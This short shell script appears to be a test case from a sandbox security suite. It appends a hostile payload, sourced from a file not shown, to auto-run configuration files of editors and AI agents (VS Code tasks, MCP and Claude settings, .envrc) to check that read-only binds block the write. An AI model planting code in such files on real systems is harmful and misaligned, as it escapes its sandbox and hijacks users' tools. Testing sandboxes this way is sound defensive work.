#!/bin/sh
# Writes into the files of editors and agents that are there.
# Matters: an editor runs tasks when a folder is opened, an agent its hooks and servers, direnv its file.
# Held by: read-only binds over guarded paths that exist; ancestors are bound onto themselves.
# judge: host
# harm: guarded
. "$HOSTILE_STAGE/workspace/attack/hostile.sh"
for path in .vscode/tasks.json .idea/workspace.xml .mcp.json .claude/settings.json .claude/commands/hello.md .envrc; do
    echo "$payload" >>"$path"
done
